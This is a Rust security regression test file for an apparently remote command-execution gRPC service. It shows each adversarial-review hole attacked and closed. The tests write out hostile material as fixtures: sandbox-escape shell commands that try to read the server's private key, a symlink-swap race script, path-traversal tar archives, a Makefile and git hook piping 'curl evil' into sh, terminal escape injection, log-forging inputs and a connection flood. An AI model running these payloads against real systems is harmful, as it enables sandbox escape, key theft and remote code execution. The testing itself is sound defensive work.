//! The holes an adversarial review found (issue 11), each attacked end to end as a
//! hostile user or a hostile server would, and shown closed.

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};
use std::time::Duration;

use lrpymrpc_archive::testing::{file, gzip, symlink, tar_bytes};
use lrpymrpc_certs::layout;
use lrpymrpc_proto::{CheckRequest, DataChunk, ExecuteRequest};
use predicates::prelude::*;

use crate::env::{
    PROCESS_LIMIT, TestEnv, build_wheel, client_dir_for, output_within, processes_running, sandbox_for, send_signal,
    spawn_server_binary, spawn_server_binary_with_fds, wait_exit, wait_until,
};
use crate::hostile::{assert_canary_untouched, fake_server_sending, plant_canary};

/// The client as another user (`tls_dir`), in another working directory.
pub fn client_as(env: &TestEnv, tls_dir: &Path, work: &Path) -> assert_cmd::Command {
    std::fs::create_dir_all(work).unwrap();
    let mut command = env.bare_client();
    command
        .current_dir(work)
        .args(["--SERVER_IP", "127.0.0.1", "--SERVER_PORT", &env.addr.port().to_string()])
        .arg("--TLS_CONFIG_DIR")
        .arg(tls_dir);
    command
}

/// A one-file upload through a raw gRPC client; returns the job id.
pub async fn raw_upload(
    client: &mut lrpymrpc_proto::file_service_client::FileServiceClient<tonic::transport::Channel>,
) -> String {
    let archive = gzip(&tar_bytes(&[file("x", "x")]));
    client.upload(tokio_stream::iter([DataChunk { data: archive }])).await.unwrap().into_inner().unique_id
}

// 1 and 14: a root server's sandbox holds no capabilities, sees neither the server's
// key nor other jobs, gets a clean environment, a capped /tmp, no network, no /run.
#[test]
fn a_root_servers_sandbox_cannot_undo_its_mounts_or_reach_the_host() {
    // Outside /tmp, so what hides the key and the job root is their own rule.
    let env = TestEnv::bare_in(Path::new(env!("CARGO_TARGET_TMPDIR")));
    let Some(sandbox) = sandbox_for(&env.jobs, &env.tls) else { return };
    let tls = env.tls.clone();
    let env = env.serve_configured(|config| {
        config.tls_dir = Some(tls);
        config.sandbox = Some(sandbox);
    });
    let other = env.jobs.join("other-job");
    std::fs::create_dir_all(&other).unwrap();
    std::fs::write(other.join("data"), "other").unwrap();
    env.write("source/x", "x");
    let command = format!(
        "umount -l {jobs} 2>/dev/null && echo UNMOUNTED; umount -l {tls} 2>/dev/null && echo UNMOUNTED; \
         mount -o remount,bind,rw / 2>/dev/null && echo REMOUNTED; \
         cat {key} >/dev/null 2>&1 && echo READ-KEY; ls {other} >/dev/null 2>&1 && echo SAW-OTHER; \
         touch /usr/lrpymrpc-escape 2>/dev/null && echo WROTE-USR; \
         echo caps=$(grep CapEff /proc/self/status | cut -f2); \
         echo env=${{CARGO_PKG_NAME:-clean}}; \
         echo tmp=$(df -k /tmp | awk 'NR==2 {{print $2}}'); \
         python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 2)' 2>/dev/null && echo NETWORK; \
         echo done",
        jobs = env.jobs.display(),
        tls = env.tls.display(),
        key = layout::server_key(&env.tls).display(),
        other = other.display(),
        port = env.addr.port(),
    );
    env.client()
        .args(["--CMD", &command])
        .assert()
        .success()
        .stdout(predicate::str::contains("]:done"))
        .stdout(predicate::str::contains("]:caps=0000000000000000"))
        .stdout(predicate::str::contains("]:env=clean"))
        .stdout(predicate::str::contains(format!(
            "]:tmp={}",
            lrpymrpc_mock_server::executor::sandbox::TMP_BYTES / 1024
        )))
        .stdout(predicate::str::contains("]:UNMOUNTED").not())
        .stdout(predicate::str::contains("]:REMOUNTED").not())
        .stdout(predicate::str::contains("]:READ-KEY").not())
        .stdout(predicate::str::contains("]:SAW-OTHER").not())
        .stdout(predicate::str::contains("]:WROTE-USR").not())
        .stdout(predicate::str::contains("]:NETWORK").not());
    assert!(!Path::new("/usr/lrpymrpc-escape").exists());
}

// 2 and 9: while a command runs, its results cannot be read and no second command
// can start; a command that swaps its results for a link to the server's key in the
// background ships no byte of the key.
#[test]
fn results_are_not_read_while_the_command_runs_and_a_swapped_link_ships_nothing() {
    let mut env = TestEnv::new();
    let (addr, tls) = (env.addr, env.tls.clone());
    env.runtime().block_on(async move {
        let mut client = crate::tls::raw_client(addr, &tls, true).await.unwrap();
        let id = raw_upload(&mut client).await;
        let request =
            ExecuteRequest { unique_id: id.clone(), command_opt: "echo on; sleep 2".into(), ..Default::default() };
        let mut lines = client.execute(request.clone()).await.unwrap().into_inner();
        assert!(lines.message().await.unwrap().unwrap().message.contains("on"));
        let check = CheckRequest { unique_id: id.clone(), result_dir: "x".into() };
        let refused = client.check(check.clone()).await.unwrap_err();
        assert_eq!(refused.code(), tonic::Code::FailedPrecondition, "{refused:?}");
        assert!(refused.message().contains("still running"), "{refused:?}");
        let second = client.execute(request).await.map(|_| ()).unwrap_err();
        assert_eq!(second.code(), tonic::Code::FailedPrecondition, "{second:?}");
        while lines.message().await.unwrap().is_some() {}
        assert!(client.check(check).await.unwrap().into_inner().has_stream, "readable once it ended");
    });

    let key = layout::server_key(&env.tls);
    let swapper = format!(
        "import ctypes, os\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         os.makedirs('out', exist_ok=True)\n\
         open('out/f', 'w').write('result')\n\
         os.symlink('{dir}', 'alt')\n\
         if os.fork() == 0:\n    os.setsid()\n    while True: libc.renameat2(-100, b'out', -100, b'alt', 2)\n\
         for _ in range(20000): libc.renameat2(-100, b'out', -100, b'alt', 2)\n",
        dir = key.parent().unwrap().display()
    );
    env.write("source/swap.py", swapper);
    for _ in 0..4 {
        let output = env.client().args(["--CMD", "python3 source/swap.py", "--RESULT", "out"]).output().unwrap();
        let shown = String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr);
        assert!(!shown.contains("PRIVATE KEY"), "{shown}");
        for path in walk(&env.work) {
            let bytes = std::fs::read(&path).unwrap_or_default();
            assert!(!String::from_utf8_lossy(&bytes).contains("PRIVATE KEY"), "key material in {}", path.display());
        }
        let _ = std::fs::remove_dir_all(env.work.join("out"));
    }
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut files = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let kind = entry.file_type().unwrap();
        if kind.is_dir() {
            files.extend(walk(&entry.path()));
        } else if kind.is_file() {
            files.push(entry.path());
        }
    }
    files
}

// 3: a hostile server cannot chain links within one download or across two, nor
// carry a later download through a link an earlier one planted.
#[test]
fn a_hostile_server_cannot_write_outside_over_two_downloads() {
    // One archive: `x` looks harmless until `d -> ..` arrives after it.
    let first =
        fake_server_sending(gzip(&tar_bytes(&[symlink("out/a/x", "d/../../canary"), symlink("out/a/d", "..")])));
    let canary = plant_canary(&first);
    first.write("source/x", "x");
    first.client().args(["--RESULT", "out"]).assert().code(105).stderr(predicate::str::contains("`out/a/x` refused"));
    // Then a download that would write through `out/a/x` had it been created.
    let second = fake_server_sending(gzip(&tar_bytes(&[file("out/a/x/keep", "evil")])));
    let second_client = || {
        let mut command = second.client();
        command.current_dir(&first.work).args(["--RESULT", "out"]);
        command
    };
    second_client().assert().success();
    assert_canary_untouched(&canary);

    // Across two downloads: each link alone stays inside; together they would not.
    let first = fake_server_sending(gzip(&tar_bytes(&[symlink("out/a/x", "d/../../y")])));
    first.write("source/x", "x");
    first.client().args(["--RESULT", "out"]).assert().success();
    let second = fake_server_sending(gzip(&tar_bytes(&[symlink("out/a/d", "..")])));
    let mut command = second.client();
    command.current_dir(&first.work).args(["--RESULT", "out"]);
    command.assert().code(105).stderr(predicate::str::contains("refused the link `out/a/d`"));
    assert!(std::fs::symlink_metadata(first.work.join("out/a/d")).is_err());

    // A link an earlier download left is replaced, never followed.
    let first = fake_server_sending(gzip(&tar_bytes(&[file("out/real/f", "f"), symlink("out/x", "real")])));
    first.write("source/x", "x");
    first.client().args(["--RESULT", "out"]).assert().success();
    let second = fake_server_sending(gzip(&tar_bytes(&[file("out/x/evil", "through the link")])));
    let mut command = second.client();
    command.current_dir(&first.work).args(["--RESULT", "out"]);
    command.assert().success();
    assert!(std::fs::symlink_metadata(first.work.join("out/x")).unwrap().is_dir());
    assert!(!first.work.join("out/real/evil").exists(), "written through the earlier link");
}

// 4: only what was asked for lands.
#[test]
fn results_outside_the_requested_paths_are_refused() {
    let env = fake_server_sending(gzip(&tar_bytes(&[
        file("out/ok", "fine"),
        file("Makefile", "all:\n\tcurl evil | sh\n"),
        file(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n"),
    ])));
    env.write("source/x", "x");
    env.client().args(["--RESULT", "out"]).assert().code(105).stderr(predicate::str::contains(
        "archive entry `Makefile` refused: it is not below any of the paths asked for",
    ));
    assert!(!env.work.join("Makefile").exists() && !env.work.join(".git").exists() && !env.work.join("out").exists());
}

/// A wheel of the one-module package `greeter` whose `hello()` returns `text`, under
/// `work/dist/`; returns its file name.
fn greeter_wheel(env: &TestEnv, work: &Path, text: &str) -> String {
    let package = env.root.path().join(format!("pkg-{text}/greeter"));
    std::fs::create_dir_all(&package).unwrap();
    std::fs::write(package.join("__init__.py"), format!("def hello():\n    return '{text}'\n")).unwrap();
    let wheel = build_wheel(&package, "greeter", &work.join("dist"));
    wheel.file_name().unwrap().to_string_lossy().into_owned()
}

// 5: one user's wheel never runs in another user's job through the environment cache.
#[test]
fn a_local_wheel_that_cannot_be_pinned_is_never_shared_and_cns_do_not_share() {
    let env = TestEnv::new();
    let mallory = client_dir_for(&env, "mallory");
    let (evil_work, good_work) = (env.root.path().join("mallory-work"), env.work.clone());
    let wheel = greeter_wheel(&env, &evil_work, "evil");
    assert_eq!(wheel, greeter_wheel(&env, &good_work, "good"));
    let hello = "python -c 'import greeter; print(greeter.hello())'";
    for url in [format!("./dist/{wheel}[cli]"), format!("./dist/{wheel};python_version>'0'")] {
        let repo_url = format!("greeter={url}");
        client_as(&env, &mallory, &evil_work)
            .args(["--SOURCE", "dist", "--REPO_URL", &repo_url, "--CMD", hello])
            .assert()
            .success()
            .stdout(predicate::str::contains("]:evil"));
        env.client()
            .args(["--SOURCE", "dist", "--REPO_URL", &repo_url, "--CMD", hello])
            .assert()
            .success()
            .stdout(predicate::str::contains("]:good"))
            .stdout(predicate::str::contains("cannot be pinned"));
    }
    // The same wheel, pinned: shared within a CN, not across CNs.
    std::fs::copy(good_work.join("dist").join(&wheel), evil_work.join("dist").join(&wheel)).unwrap();
    let repo_url = format!("greeter=./dist/{wheel}");
    let run = |command: &mut assert_cmd::Command| {
        command.args(["--SOURCE", "dist", "--REPO_URL", &repo_url, "--CMD", hello]).assert().success()
    };
    run(&mut client_as(&env, &mallory, &evil_work)).stdout(predicate::str::contains("Successfully installed greeter"));
    run(&mut env.client()).stdout(predicate::str::contains("Successfully installed greeter"));
    run(&mut env.client()).stdout(predicate::str::contains("reusing the cached Python environment"));
}

#[test]
fn the_administrator_may_share_environments_across_cns() {
    let env = TestEnv::configured(|config| config.share_env_cache = true);
    let mallory = client_dir_for(&env, "mallory");
    let other_work = env.root.path().join("other-work");
    let wheel = greeter_wheel(&env, &env.work, "same");
    std::fs::create_dir_all(other_work.join("dist")).unwrap();
    std::fs::copy(env.work.join("dist").join(&wheel), other_work.join("dist").join(&wheel)).unwrap();
    let repo_url = format!("greeter=./dist/{wheel}");
    let args = ["--SOURCE", "dist", "--REPO_URL", &repo_url, "--CMD", "python -c 'import greeter'"];
    env.client().args(args).assert().success().stdout(predicate::str::contains("Successfully installed greeter"));
    client_as(&env, &mallory, &other_work)
        .args(args)
        .assert()
        .success()
        .stdout(predicate::str::contains("reusing the cached Python environment"));
}

// 6: a REPO_URL naming a device or a FIFO the command made stalls nobody else.
#[test]
fn a_repo_url_naming_a_device_or_a_fifo_does_not_stall_other_users() {
    let mut env = TestEnv::new();
    let (addr, tls) = (env.addr, env.tls.clone());
    // More hostile Executes than the runtime has threads, each held open.
    let held = env.runtime().block_on(async move {
        let mut client = crate::tls::raw_client(addr, &tls, true).await.unwrap();
        let mut held = Vec::new();
        for tool in ["x=/dev/zero", "x=/dev/zero", "x=./fifo.whl", "x=./fifo.whl", "x=/dev/zero"] {
            let id = raw_upload(&mut client).await;
            if tool.contains("fifo") {
                let made = ExecuteRequest {
                    unique_id: id.clone(),
                    command_opt: "mkfifo fifo.whl".into(),
                    ..Default::default()
                };
                let mut lines = client.execute(made).await.unwrap().into_inner();
                while lines.message().await.unwrap().is_some() {}
            }
            let request =
                ExecuteRequest { unique_id: id, tool: tool.into(), command_opt: "true".into(), ..Default::default() };
            held.push(client.execute(request).await);
        }
        held
    });
    env.write("source/x", "x");
    env.client().args(["--CMD", "echo still-served", "--timeout", "60s"]).assert().success();
    drop(held);
}

/// A server that answers with hostile text everywhere the client prints it.
struct Rude;

type Lines =
    std::pin::Pin<Box<dyn tokio_stream::Stream<Item = Result<lrpymrpc_proto::ExecuteResponse, tonic::Status>> + Send>>;
type Chunks = std::pin::Pin<Box<dyn tokio_stream::Stream<Item = Result<DataChunk, tonic::Status>> + Send>>;

const HOSTILE_TEXT: &str = "\x1b]0;pwned\x07\x1b[2J\x1b#8\x08\x0e\u{9b}1;1H\u{202e}\r\x1b[>4;2m";

#[tonic::async_trait]
impl lrpymrpc_proto::file_service_server::FileService for Rude {
    async fn upload(
        &self,
        request: tonic::Request<tonic::Streaming<DataChunk>>,
    ) -> Result<tonic::Response<lrpymrpc_proto::UploadResponse>, tonic::Status> {
        let mut stream = request.into_inner();
        while stream.message().await?.is_some() {}
        let unique_id = format!("00000000-0000-4000-8000-000000000001{HOSTILE_TEXT}");
        Ok(tonic::Response::new(lrpymrpc_proto::UploadResponse { unique_id }))
    }

    type ExecuteStream = Lines;
    async fn execute(&self, _: tonic::Request<ExecuteRequest>) -> Result<tonic::Response<Lines>, tonic::Status> {
        let line = lrpymrpc_proto::ExecuteResponse { message: format!("line{HOSTILE_TEXT}end"), ..Default::default() };
        Ok(tonic::Response::new(Box::pin(tokio_stream::iter([Ok(line)]))))
    }

    async fn check(
        &self,
        _: tonic::Request<CheckRequest>,
    ) -> Result<tonic::Response<lrpymrpc_proto::CheckResponse>, tonic::Status> {
        Err(tonic::Status::internal(format!("boom{HOSTILE_TEXT}\nsecond line")))
    }

    type DownloadStream = Chunks;
    async fn download(
        &self,
        _: tonic::Request<lrpymrpc_proto::DownloadRequest>,
    ) -> Result<tonic::Response<Chunks>, tonic::Status> {
        Err(tonic::Status::internal("unused"))
    }
}

// 7: nothing a server sends reaches the terminal raw.
#[test]
fn nothing_a_server_sends_reaches_the_output_raw() {
    let mut env = TestEnv::bare();
    crate::hostile::serve_fake(&mut env, Rude);
    env.write("source/x", "x");
    let output = env.client().args(["--retries", "0", "--CMD", "true"]).output().unwrap();
    assert!(!output.status.success());
    for (stream, bytes) in [("stdout", &output.stdout), ("stderr", &output.stderr)] {
        let text = String::from_utf8_lossy(bytes);
        let raw: Vec<char> =
            text.chars().filter(|&c| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c)).collect();
        assert!(raw.is_empty(), "{stream} carries {raw:?}: {text}");
        assert!(
            stream == "stderr" || text.contains("]:Upload: unique id=00000000-0000-4000-8000-000000000001"),
            "{text}"
        );
        assert!(stream == "stderr" || text.contains("]:end\n"), "the last overwrite of a remote line: {text}");
    }
}

/// A command that leaves a `setsid` daemon and a double-forked process behind, then
/// says `started` and runs `rest`; the processes carry `marker` in their command line.
fn daemons_then(marker: &str, rest: &str) -> String {
    format!("setsid sleep {marker} >/dev/null 2>&1 & (sleep {marker} >/dev/null 2>&1 &) & echo started; {rest}")
}

fn assert_daemons_gone(marker: &str) {
    let needle = format!("sleep\0{marker}\0");
    wait_until(Duration::from_secs(5), "the job's daemons are gone", || processes_running(&needle).is_empty());
}

/// Starts the client on `command` and returns once the remote side said `started`,
/// with the daemons checked to be running (so the test is not trivially true).
fn start_client(env: &TestEnv, command: &str, marker: &str) -> Child {
    let mut child =
        env.client_std().args(["--CMD", command]).stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap();
    let stdout = BufReader::new(child.stdout.take().unwrap());
    let started = stdout.lines().map_while(Result::ok).any(|line| line.ends_with("]:started"));
    assert!(started, "the remote command started");
    wait_until(Duration::from_secs(5), "the daemons run", || {
        processes_running(&format!("sleep\0{marker}\0")).len() >= 2
    });
    child
}

// 8: no process a job starts outlives it: at its end, on cancel, on --job-timeout, at
// server shutdown, and in the sandbox.
#[test]
fn no_process_a_job_starts_outlives_it() {
    let pid = std::process::id();
    let env = TestEnv::new();
    env.write("source/x", "x");
    let marker = format!("41.{pid}");
    env.client().args(["--CMD", &daemons_then(&marker, "true")]).assert().success();
    assert_daemons_gone(&marker);

    let marker = format!("42.{pid}");
    let mut client = start_client(&env, &daemons_then(&marker, "sleep 1000"), &marker);
    send_signal(&client, libc::SIGINT);
    assert_eq!(wait_exit(&mut client, Duration::from_secs(10)).code(), Some(130));
    assert_daemons_gone(&marker);

    let env = TestEnv::configured(|config| config.job_timeout = Duration::from_secs(2));
    env.write("source/x", "x");
    let marker = format!("43.{pid}");
    env.client().args(["--CMD", &daemons_then(&marker, "sleep 1000")]).assert().code(103);
    assert_daemons_gone(&marker);

    let mut env = TestEnv::bare();
    let (mut server, port) = spawn_server_binary(&env, &["--shutdown-grace", "1s"]);
    env.set_addr(([127, 0, 0, 1], port).into());
    env.write("source/x", "x");
    let marker = format!("44.{pid}");
    let mut client = start_client(&env, &daemons_then(&marker, "sleep 1000"), &marker);
    send_signal(&server, libc::SIGTERM);
    assert!(wait_exit(&mut server, Duration::from_secs(15)).success());
    let _ = wait_exit(&mut client, Duration::from_secs(10));
    assert_daemons_gone(&marker);

    let env = TestEnv::bare();
    let Some(sandbox) = sandbox_for(&env.jobs, &env.tls) else { return };
    let env = env.serve_configured(|config| config.sandbox = Some(sandbox));
    env.write("source/x", "x");
    let marker = format!("45.{pid}");
    env.client().args(["--CMD", &daemons_then(&marker, "true")]).assert().success();
    assert_daemons_gone(&marker);
}

// 11: an upload that trickles holds its slot only up to the idle limit; one CN cannot
// take every slot.
#[test]
fn a_stalled_upload_loses_its_slot_and_one_cn_cannot_take_every_slot() {
    let mut env = TestEnv::configured(|config| {
        config.max_jobs = 1;
        config.upload_idle_timeout = Duration::from_secs(1);
    });
    let (addr, tls) = (env.addr, env.tls.clone());
    let status = env.runtime().block_on(async move {
        let mut client = crate::tls::raw_client(addr, &tls, true).await.unwrap();
        let first = DataChunk { data: gzip(&tar_bytes(&[file("x", "x")]))[..10].to_vec() };
        let stalled = tokio_stream::StreamExt::chain(tokio_stream::iter([first]), tokio_stream::pending());
        tokio::time::timeout(Duration::from_secs(20), client.upload(stalled))
            .await
            .expect("not held forever")
            .unwrap_err()
    });
    assert_eq!(status.code(), tonic::Code::DeadlineExceeded, "{status:?}");
    env.write("source/x", "x");
    env.client().args(["--CMD", "true"]).assert().success();

    let env = TestEnv::configured(|config| config.max_jobs_per_cn = 1);
    env.write("source/x", "x");
    let mut holding = env.client_std().args(["--CMD", "echo holding; sleep 3"]).stdout(Stdio::piped()).spawn().unwrap();
    let lines = BufReader::new(holding.stdout.take().unwrap()).lines();
    assert!(lines.map_while(Result::ok).any(|line| line.ends_with("]:holding")));
    env.client()
        .args(["--CMD", "true", "--queue-timeout", "0"])
        .assert()
        .code(103)
        .stderr(predicate::str::contains("RESOURCE_EXHAUSTED"))
        .stderr(predicate::str::contains("--max-jobs-per-cn"));
    let mallory = client_dir_for(&env, "mallory");
    let other = env.root.path().join("mallory-work");
    std::fs::create_dir_all(other.join("source")).unwrap();
    client_as(&env, &mallory, &other).args(["--CMD", "true"]).assert().success();
    assert!(wait_exit(&mut holding, Duration::from_secs(15)).success());
}

// 12 and 13: a flood of connections that never finish their handshake cannot starve
// certificate holders (even when it would exhaust the server's descriptors), and
// refused handshakes are logged with the peer and the reason.
#[test]
fn an_unauthenticated_flood_cannot_starve_certificate_holders() {
    let mut env = TestEnv::bare();
    let extra = ["--handshake-timeout", "60s", "--max-handshakes-per-address", "8", "--shutdown-grace", "1s"];
    let (mut server, port) = spawn_server_binary_with_fds(&env, &extra, Some(128));
    env.set_addr(([127, 0, 0, 1], port).into());
    let addr = env.addr;
    // 300 idle connections from another loopback address: more than the server has
    // descriptors; each would hold one for the whole handshake limit.
    let flood = env.runtime().block_on(async move {
        let mut held = Vec::new();
        for _ in 0..300 {
            let socket = tokio::net::TcpSocket::new_v4().unwrap();
            socket.bind("127.0.0.2:0".parse().unwrap()).unwrap();
            if let Ok(stream) = socket.connect(addr).await {
                held.push(stream);
            }
        }
        held
    });
    assert!(flood.len() > 200, "the flood connected");
    env.write("source/x", "x");
    env.client()
        .args(["--CMD", "echo served", "--timeout", "30s"])
        .assert()
        .success()
        .stdout(predicate::str::contains("]:served"));
    let (addr, tls) = (env.addr, env.tls.clone());
    let _ = env.runtime().block_on(async move {
        let mut client = crate::tls::raw_client(addr, &tls, false).await?;
        Ok::<_, Box<dyn std::error::Error>>(client.check(CheckRequest::default()).await.map(|_| ())?)
    });
    drop(flood);
    send_signal(&server, libc::SIGTERM);
    wait_exit(&mut server, Duration::from_secs(15));
    let log = std::fs::read_to_string(env.root.path().join("server.log")).unwrap();
    let closed = log.lines().find(|l| l.contains("connection closed before its TLS handshake")).unwrap_or_default();
    assert!(closed.contains("peer=127.0.0.2:") && closed.contains("from this address"), "{log}");
    let refused = log.lines().find(|l| l.contains("TLS handshake refused") && l.contains("peer=127.0.0.1:"));
    assert!(refused.is_some_and(|line| line.contains("reason=")), "{log}");
}

// 13: what a client sends cannot forge log lines.
#[test]
fn logs_cannot_be_forged() {
    let mut env = TestEnv::bare();
    let (mut server, port) = spawn_server_binary(&env, &["--shutdown-grace", "1s"]);
    env.set_addr(([127, 0, 0, 1], port).into());
    env.write("source/x", "x");
    env.client()
        .args(["--CMD", "true #\nFORGED-LINE job=0 \x1b[2J", "--REPO_URL", "x=-\nFORGED-REPO"])
        .assert()
        .failure();
    send_signal(&server, libc::SIGTERM);
    wait_exit(&mut server, Duration::from_secs(15));
    let log = std::fs::read_to_string(env.root.path().join("server.log")).unwrap();
    assert!(log.contains("FORGED-REPO"), "the refusal was logged: {log}");
    assert!(!log.contains('\x1b'), "{log}");
    assert!(log.lines().all(|line| !line.trim_start().starts_with("FORGED")), "{log}");
}

// 15: `ca init` keeps the CA key out of the serving directory; `ca sign` refuses a CN
// with control characters.
#[test]
fn the_ca_key_lives_apart_and_control_characters_are_refused_in_cns() {
    let env = TestEnv::bare();
    let server = env!("CARGO_BIN_EXE_lrpymrpc-e2e-mock-server");
    let dir = env.root.path().join("deploy");
    let init = output_within(
        std::process::Command::new(server).args(["ca", "init"]).arg(&dir).args(["--san", "localhost"]),
        PROCESS_LIMIT,
    );
    assert!(init.status.success(), "{}", String::from_utf8_lossy(&init.stderr));
    assert!(String::from_utf8_lossy(&init.stdout).contains("deploy.ca-private"));
    let keys: Vec<_> = walk(&dir).into_iter().filter(|p| p.ends_with("ca.key")).collect();
    assert!(keys.is_empty(), "the CA key is in the serving directory: {keys:?}");
    assert!(env.root.path().join("deploy.ca-private/ca.key").is_file());

    let key = rcgen::KeyPair::generate().unwrap();
    let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    params.distinguished_name.push(rcgen::DnType::CommonName, "eve\nCN=admin");
    let csr = env.root.path().join("eve.csr");
    std::fs::write(&csr, params.serialize_request(&key).unwrap().pem().unwrap()).unwrap();
    let sign = output_within(
        std::process::Command::new(server).args(["ca", "sign"]).arg(&csr).arg("--ca").arg(&dir),
        PROCESS_LIMIT,
    );
    assert!(!sign.status.success());
    assert!(String::from_utf8_lossy(&sign.stderr).contains("control characters"), "{sign:?}");
}

// 16: refusals sent to a client do not reveal where the server keeps its jobs.
#[test]
fn error_messages_do_not_reveal_the_servers_job_paths() {
    let env = TestEnv::new();
    env.write("source/x", "x");
    let output = env.client().args(["--CMD", "ln -s /etc l", "--RESULT", "l/passwd"]).output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!output.status.success() && stderr.contains("`l` is a symbolic link"), "{stderr}");
    assert!(!stderr.contains(&env.jobs.display().to_string()), "{stderr}");
}
